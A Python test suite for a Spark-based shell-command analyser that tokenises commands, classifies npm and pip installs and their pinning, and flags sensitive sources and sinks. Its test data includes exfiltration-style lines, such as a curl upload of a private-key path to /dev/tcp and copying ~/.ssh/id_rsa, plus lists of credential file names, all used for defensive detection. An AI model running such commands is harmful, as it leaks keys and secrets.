"""Shell words and command facts against plain Python on generated commands."""

from __future__ import annotations

import random
import re

import pytest
from assetgraph import security_queries
from assetgraph.functions.selectors import npm_selector, python_selector
from assetgraph.functions.shell import shell_supported, shell_tokens
from assetgraph.functions.spans import match_spans, running_sums
from assetgraph.operators import commands as C
from pyspark.sql import functions as F

BLANKS = set("\t\n\x0b\f\r \xa0     　﻿") | {chr(c) for c in range(0x2000, 0x200B)}


def units(s):
    return len(s.encode("utf-16-le")) // 2


def plain_tokens(text):
    """Character by character."""
    out, i, n = [], 0, len(text)
    while True:
        while i < n and text[i] in BLANKS:
            i += 1
        if i >= n or (text[i] == "#" and (i == 0 or text[i - 1] in BLANKS)):
            return out, True
        if text[i] in "|&;<>":
            op = text[i : i + 2] if text[i : i + 2] in ("&&", "||", ">>", "<<", "&>") else text[i]
            out.append(("operator", op, op, units(text[:i]), units(text[: i + len(op)]), False, False))
            i += len(op)
            continue
        start, value, quote, quoted, sub = i, "", None, False, False
        while i < n:
            c = text[i]
            if quote:
                if c == quote:
                    quote = None
                    i += 1
                elif quote == '"' and c == "\\":
                    if i + 1 >= n:
                        return out, False
                    value += text[i + 1]
                    i += 2
                else:
                    sub |= quote == '"' and (c == "`" or text[i : i + 2] == "$(")
                    value += c
                    i += 1
            elif c in "'\"":
                quote, quoted = c, True
                i += 1
            elif c == "\\":
                if i + 1 >= n:
                    return out, False
                value += text[i + 1]
                i += 2
            elif c in BLANKS or c in "|&;<>":
                break
            else:
                sub |= c == "`" or text[i : i + 2] == "$("
                value += c
                i += 1
        if quote:
            return out, False
        out.append(("word", value, text[start:i], units(text[:start]), units(text[:i]), quoted, sub))


def test_tokens(spark):
    rng = random.Random(2)
    some = ["a", "npm", " ", "  ", "\t", "'", '"', "\\", "|", "||", "&", "&&", "&>", ">", ">>", "<", "<<", ";", "#", " #", "$(", ")", "`", "$", "(", "é", "😀", "　", "\n", "'x y'", '"a \\" b"']
    texts = ["", "#all", "a#b #c", "x\\", "'open", 'ab"cd', "# x 'y", "a\\ b", "$''(", '"$"(', "|#x", None, "w" * 30000 + " 'q'", "\\" * 4001] + ["".join(rng.choice(some) for _ in range(rng.randrange(14))) for _ in range(3000)]
    rows = spark.createDataFrame(list(enumerate(texts)), "i int, t string").select("i", shell_tokens(F.col("t")).alias("s")).collect()
    for r in rows:
        tokens, supported = plain_tokens(texts[r.i] or "")
        assert ([tuple(t) for t in r.s.tokens], r.s.supported) == (tokens, supported), texts[r.i]


def test_spans(spark):
    rng = random.Random(5)
    texts = ["".join(rng.choice("ab😀 é") for _ in range(rng.randrange(40))) for _ in range(300)] + ["", "ab" * 2000]
    got = spark.createDataFrame(list(enumerate(texts)), "i int, t string").select("i", match_spans(F.col("t"), "a+b|é").alias("m")).collect()
    for r in got:
        t = texts[r.i]
        assert [tuple(m) for m in r.m] == [(m.group(), units(t[: m.start()]), units(t[: m.end()])) for m in re.finditer("a+b|é", t)]
    numbers = [rng.randrange(9) for _ in range(1000)]
    sums = spark.createDataFrame([(numbers[:n],) for n in (0, 1, 128, 129, 1000)], "x array<int>").select("x", running_sums(F.col("x")).alias("s")).collect()
    assert all(r.s == [sum(r.x[: i + 1]) for i in range(len(r.x))] for r in sums)


NPM = {"react": "bare", "react@": "bare", "react@18.2.0": "exact", "react@=18.2.0": "exact", "react@v1.0.0-rc.1+b.2": "exact", "@a/b@1.x": "wildcard", "@a/b": "bare", "a@*": "wildcard", "a@1": "range", "a@1.2": "range", "a@^1.2.3": "range",
    "a>=1": "range", "a@1 - 2": "range", "a@latest": "dist-tag", "a@$V": "variable", "a@git+ssh://x/y": "direct-reference", "./local": "direct-reference", "x.tgz": "bare", "@/x": "unknown", "": "unknown", "a@01.2.3": "dist-tag", "https://x/y.tgz": "direct-reference"}
PYPI = {"requests": "bare", "requests==2.0": "exact", "requests===2.0": "exact", "requests == 2.0": "exact", "a==2.*": "wildcard", "a!=2.*": "wildcard", "a==x.*": "unknown", "a>=1,<2": "range", "a~=1.0": "range", "a[x,y]==1.0rc1": "exact", "a[x==1": "unknown",
    "a[]": "unknown", "a==1.0.post1.dev2+local.3": "exact", "a==1..0": "unknown", "a @ https://x": "direct-reference", "a; python_version<'3'": "direct-reference", "$X": "variable", "a==$V": "variable", "a.whl": "direct-reference", "git+https://x": "direct-reference", "-": "unknown", "a*": "unknown"}


def test_selectors(spark):
    for cases, of in ((NPM, npm_selector), (PYPI, python_selector)):
        got = {r.r: r.s for r in spark.createDataFrame([(k,) for k in cases], "r string").select("r", of(F.col("r")).alias("s")).collect()}
        assert {k: s.kind for k, s in got.items()} == cases
    s = spark.createDataFrame([("Foo_.Bar[Baz,q] >= 1 , <2",)], "r string").select(python_selector(F.col("r")).alias("s")).first().s
    assert (s.package, s.normalized_package, s.selector, s.normalized_selector, s.normalized_reference) == ("Foo_.Bar", "foo-bar", " >= 1 , <2", ">=1,<2", "foo-bar[baz,q]>=1,<2")


def plain_command(tokens, i):
    """(ecosystem, manager, start or None, supported) of the command at token i, step by step."""
    word = lambda j: 0 <= j < len(tokens) and tokens[j][0] == "word"
    val = lambda j: tokens[j][1] if word(j) else ""
    good = lambda j: word(j) and val(j) != "" and not val(j).startswith("-")

    def npm_at(k, m):
        if not word(k):
            return None
        v = val(k).lower()
        if m == "yarn" and v == "global":
            return k + 2 if word(k + 1) and val(k + 1).lower() == "add" else None
        return k + 1 if v in {"npm": ("install", "i", "add"), "pnpm": ("install", "add"), "yarn": ("add",)}[m] else None

    def ordinary(j, with_value, without):
        v = val(j)
        if any(len(o) == 2 and v.startswith(o) and len(v) > 2 for o in with_value):
            return j + 1, True
        name, eq, rest = v.partition("=")
        if eq:
            return (j + 1, rest != "") if name in with_value else (j + 1, False)
        if v in without:
            return j + 1, True
        if v not in with_value:
            return j + 1, False
        return (j + 2, True) if good(j + 1) else (j + 1, False)

    if not word(i):
        return None
    v = val(i).lower()
    if v in C.MANAGER_WITH:
        k, names, saw = i + 1, C.MANAGER_WITH[v], False
        while word(k) and val(k).startswith("-"):
            saw = True
            name, eq, rest = val(k).partition("=")
            if name not in names:
                return "npm", v, npm_at(k + 1, v) if eq else None, False
            if eq:
                if not rest:
                    return "npm", v, npm_at(k + 1, v), False
                k += 1
            elif good(k + 1):
                k += 2
            else:
                return "npm", v, npm_at(k + 1, v), False
        start = npm_at(k, v)
        return ("npm", v, start, True) if start is not None else ("npm", v, None, False) if saw else None
    manager, k = "pip", None
    if v in ("pip", "pip3"):
        if not (word(i - 1) and (val(i - 1) == "-m" or val(i - 1).lower() == "uv")):
            k = i + 1
    elif re.fullmatch(r"python\d*(?:\.\d+)*|py", v):
        if val(i + 1) == "-m" and val(i + 2).lower() == "pip":
            k = i + 3
    elif v == "uv" and val(i + 1).lower() == "pip":
        manager, k = "uv", i + 2
    if k is None:
        return None
    if val(k).lower() == "install":
        return "pypi", manager, k + 1, True
    if manager == "uv":
        return None

    def recover(c):
        for j in range(c, min(len(tokens), c + 32)):
            if tokens[j][0] == "operator":
                return None
            if val(j).lower() == "install":
                return "pypi", manager, j + 1, False
        return None

    c = k
    while c - k < 32:
        if not word(c):
            return None
        if val(c).lower() == "install":
            return "pypi", manager, c + 1, True
        if not val(c).startswith("-"):
            return recover(c + 1)
        if val(c).split("=")[0] in C.GLOBAL_WITH and "=" not in val(c) and val(c + 1).lower() == "install":
            return "pypi", manager, c + 2, False
        following, ok = ordinary(c, C.GLOBAL_WITH, C.GLOBAL_WITHOUT)
        if not ok:
            return recover(c + 1)
        c = following
    return recover(c)


def plain_installs(tokens):
    """References of all commands, and whether everything was understood."""
    out, fine, any_command, npm_style = [], True, False, False
    word = lambda j: j < len(tokens) and tokens[j][0] == "word"
    for i in range(len(tokens)):
        c = plain_command(tokens, i)
        if c is None:
            continue
        ecosystem, manager, j, ok = c
        any_command, npm_style, fine = True, npm_style or ecosystem == "npm", fine and ok
        ended = False
        while j is not None and word(j):
            v = tokens[j][1]
            if not ended and v == "--":
                ended = True
            elif not ended and v.startswith("-"):
                good = word(j + 1) and tokens[j + 1][1] != "" and not tokens[j + 1][1].startswith("-")
                m = re.fullmatch(r"(-r|-c)(.+)|(--requirement|--constraint|--editable)=(.*)", v) if ecosystem == "pypi" else None
                with_value, without = (C.NPM_WITH, C.NPM_WITHOUT) if ecosystem == "npm" else (C.PYTHON_WITH, C.PYTHON_WITHOUT)
                name, eq, rest = v.partition("=")
                if m:
                    text = m[2] or m[4] or ""
                    fine = fine and text != ""
                    out += [(ecosystem, manager, text, j)] if text else []
                elif ecosystem == "pypi" and v in C.FILE_OPTIONS:
                    fine = fine and good
                    if good:
                        j += 1
                        out.append((ecosystem, manager, tokens[j][1], j))
                elif any(len(o) == 2 and v.startswith(o) and len(v) > 2 for o in with_value):
                    pass
                elif eq:
                    fine = fine and name in with_value and rest != ""
                elif v not in without:
                    fine = fine and v in with_value and good
                    j += v in with_value and good
            elif re.fullmatch(r"<.*>|\[.*\]|example|placeholder|package", v, re.I):
                fine = False
            else:
                fine = fine and v != "???"
                out.append((ecosystem, manager, v, j))
            j += 1
    return out, any_command, npm_style, fine


def test_installs(spark):
    rng = random.Random(9)
    some = ["npm", "pnpm", "yarn", "pip", "pip3", "python3", "-m", "uv", "install", "install", "add", "i", "global", "--filter", "-F", "--filter=x", "--filter=", "--cwd", "--proxy", "--proxy=", "--timeout=3", "--quiet", "-q", "--bogus", "--bogus=1", "-r", "-rfile", "--requirement=", "--editable=./x", "-e", "--",
        "--save-dev", "--registry", "-Fx", "-i", "-ix", "a@1.2.3", "b==1.0", "c", '""', "<x>", "package", "&&", ";", "|", "$V", "'${V:?m}'", "p==${V:?m}"]
    lines = [" ".join(rng.choice(some) for _ in range(rng.randrange(1, 12))) for _ in range(2500)]
    lines += ["pip " + "-q " * n + "install a" for n in (30, 31, 32, 33, 64, 70)] + ["pip " + "--proxy x " * n + "install a" for n in (15, 16, 17, 32, 40)] + ["pip -q " + "--proxy x " * n + "install a" for n in (15, 16, 33)]
    df = spark.createDataFrame(list(enumerate(lines)), "i int, t string").withColumn("k", shell_tokens(F.col("t"))["tokens"])
    for r in df.select("i", C.dependency_installs(F.col("k")).alias("d")).collect():
        tokens = plain_tokens(lines[r.i])[0]
        want, any_command, npm_style, fine = plain_installs(tokens)
        got = [(x.ecosystem, x.manager, x.reference, x.start) for x in r.d.installs]
        assert got == [(e, m, v, tokens[j][3]) for e, m, v, j in want], lines[r.i]
        unknown = any(x.selector_kind == "unknown" for x in r.d.installs)
        assert (r.d.is_install, r.d.npm_style) == (any_command, npm_style) and (r.d.supported == fine or (unknown and not r.d.supported)), lines[r.i]


def test_pinning(spark):
    cases = [("npm i a@$V", [], "variable-unverified"), ("npm i a@$V", ["V"], "pinned-variable-guarded"), ("npm i 'a@${V:?no}'", [], "variable-unverified"), ('npm i "a@${V:?no}"', [], "pinned-variable-guarded"), ("pip install a==$V", ["V"], "pinned-variable-guarded"),
        ("pip install a>$V", ["V"], None), ('pip install "a>=$V"', ["V"], "variable-unverified"), ("npm i a@${V}$W", ["V"], "variable-unverified"), ("npm i a@1.0.0", [], "pinned-literal"), ("npm i a", [], "floating-literal"), ("npm i ./x", [], "unpinned")]
    df = spark.createDataFrame([(i, t, g) for i, (t, g, _) in enumerate(cases)], "i int, t string, g array<string>")
    got = df.select("i", C.dependency_installs(shell_tokens(F.col("t"))["tokens"], F.col("g"), ["npm:a"]).alias("d")).collect()
    for r in got:
        t, _, want = cases[r.i]
        if want:
            assert [x.pinning for x in r.d.installs] == [want], t
        assert [x.allowed for x in r.d.installs][:1] == [t == "npm i a"]
    guards = [(': "${V:?set V}"', ["V"]), (": ${A:?x} # y\n : ${B:?x}", ["A", "B"]), (': "${V:?x}" && y', []), (None, []), ("if\n: ${A:?x}", [])]
    rows = spark.createDataFrame(list(enumerate(g for g, _ in guards)), "i int, t string").select("i", C.guarded_variables(F.col("t")).alias("v")).collect()
    assert {r.i: r.v for r in rows} == {i: v for i, (_, v) in enumerate(guards)}


@pytest.mark.parametrize(
    ("text", "sources", "sinks"),
    [
        ("cat .env.local > out.log", [("environment-file", ".env.local", 4)], [("stdout-or-log", "out.log")]),
        ("cp ~/.ssh/id_rsa x 2> err >> copy", [("private-key-file", ".ssh/id_rsa", 5)], [("local-file", "copy")]),
        ("x(process.env.HOME, process.env['A'])", [("environment-variable-api", "process.env.HOME", 2), ("environment-variable-api", "process.env['A']", 20)], []),
        ("security cms -D -i $CERT_PATH", [("certificate-or-signing-file", "$CERT_PATH", 19)], []),
        ("curl -T $PRIVATE_KEY_A_PATH u > /dev/tcp/h/1", [("private-key-file", "$PRIVATE_KEY_A_PATH", 8)], [("network", "/dev/tcp/h/1")]),
        ("base64 a.pem > /dev/stdout", [("certificate-or-signing-file", "a.pem", 7)], [("stdout-or-log", "/dev/stdout")]),
        ("the credential store and secrets.yaml", [("credential-store", "credential store", 4), ("other-sensitive-file", "secrets.yaml", 25)], []),
        ("nothing", [], []),
        (None, None, []),
    ],
)
def test_sensitive(spark, text, sources, sinks):
    df = spark.createDataFrame([(text,)], "t string").withColumn("k", shell_tokens(F.col("t"))["tokens"])
    r = df.select(C.sensitive_sources(F.col("t"), F.col("k")).alias("a"), C.redirections(F.col("k")).alias("b")).first()
    assert (r.a and [(x.kind, x.text, x.start) for x in r.a]) == sources or (text is None and not r.a)
    assert [(x.kind, x.text) for x in r.b] == sinks


def test_reasons(spark):
    cases = {"npm i a": "", "npm i 'a": "unsupported-tokenization", "npm --x i": "unsupported-dependency-command", "cat `x`": "unsupported-shell-syntax", "a || b": "unsupported-shell-syntax", "a >": "unsupported-shell-syntax", "a | tee x": "", "a | b": "unsupported-pipeline", "a | tee x | cat": "unsupported-pipeline"}
    df = spark.createDataFrame([(t,) for t in cases], "t string").withColumn("s", shell_tokens(F.col("t"))).withColumn("i", C.dependency_installs(F.col("s.tokens")))
    got = df.select("t", F.array_join(C.unsupported_reasons(F.col("t"), F.col("s.tokens"), F.col("s.supported"), F.col("i")), ",").alias("r")).collect()
    assert {r.t: r.r for r in got} == cases


def test_support_without_tokens(spark):
    """Whether a text can be read is found by one search, which agrees with the tokens; texts are not cut into tokens for it."""
    rng = random.Random(12)
    texts = ["".join(rng.choice(["a", "b c", " ", "'", '"', "\\", "#", " #", ";", "&&", ">", "\n", "\u3000", "é"]) for _ in range(rng.randrange(14))) for _ in range(1500)]
    texts += [None, "", "#'", "a #'", "a#'", ";#'", "'" + "x" * 200_000, "'" + "y\\" * 100_000 + "'", "z " * 100_000 + "\\"]
    rows = spark.createDataFrame(list(enumerate(texts)), "i int, t string").select("i", shell_supported(F.col("t")).alias("one"), shell_tokens(F.col("t"))["supported"].alias("two")).collect()
    assert not [texts[r.i] for r in rows if r.one != r.two]
    assert len({r.one for r in rows}) == 2
    plan = security_queries.shell_line_support(spark, "/root/testdata/sf0.001")._jdf.queryExecution().optimizedPlan().toString()
    assert "transform(" not in plan


def test_facts_need_a_hint(spark):
    """A text with any source or redirection passes the search that comes before its tokens; prose does not."""
    rng = random.Random(13)
    some = ["process.env.A", "process.env['B']", ".ENV.x", "/.env", "id_RSA", "ssh/id_dsa", "a.P12", "x.pem", ".key", "b.mobileprovision", ".aws/credentials", ".kube/config", "kubeconfig", "credentials.json", "service-account",
        "credential store", "secrets.yml", "secret.env", "secu'ri'ty", "S\\ecurity", '"sec"urity', "cms", "-i", "$SIGNING_PATH", "$SIGN'ING'_PA\\TH", "${MY_CERT_PATH}", '"$SECRET_"PATH', "-T", "cat", "@", ">", ">>", "2>", "a.log", "'", '"', " ", " ", " ", "word"]
    texts = ["".join(rng.choice(some) + rng.choice(["", " "]) for _ in range(rng.randrange(1, 7))) for _ in range(2500)] + ["security cms -D -i x.file", "curl -T $S'IGN'ING_P\\ATH", "plain words of a path to security", None]
    df = spark.createDataFrame(list(enumerate(texts)), "i int, t string").withColumn("k", shell_tokens(F.col("t"))["tokens"])
    rows = df.select("i", C.may_hold_facts(F.col("t")).alias("may"), (F.size(C.sensitive_sources(F.col("t"), F.col("k"))) + F.size(C.redirections(F.col("k")))).alias("n")).collect()
    assert not [texts[r.i] for r in rows if r.n > 0 and not r.may]
    assert sum(r.n > 0 for r in rows) > 500 and sum(r.may is False for r in rows) > 50
    plan = security_queries.sensitive_facts(spark, "/root/testdata/sf0.001")._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("id_(?:rsa|dsa|ecdsa|ed25519)|kubeconfig") >= 1
